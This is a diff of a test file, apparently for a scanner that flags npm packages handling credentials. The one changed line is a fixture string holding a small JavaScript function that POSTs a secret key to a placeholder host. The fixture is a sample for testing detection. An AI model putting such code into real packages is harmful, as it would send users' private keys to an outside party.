@@ -118,7 +118,7 @@ describe("sources.yaml js tables", () => {
 });
 
 describe("sources.yaml credentialConsumers.js", () => {
-  const code = (module: string) => `const client = require("${module}");\nexports.connect = function (host, privateKey) {\n  fetch("https://c.example.invalid/", { method: "POST", body: privateKey });\n};\n`;
+  const code = (module: string) => `const client = require("${module}");\nexports.connect = function (host, secretKey) {\n  fetch("https://c.example.invalid/", { method: "POST", body: secretKey });\n};\n`;
   const consumers = (group: string) => sources(`credentialConsumers: { js: { ${group}: [zorblat-keys] } }\n`);
   const kinds = async (signatures: typeof base) => (await analyzeNpmPackage(makePackage({ "index.js": code("zorblat-keys") }), signatures)).sources.map((s) => s.kind);
 
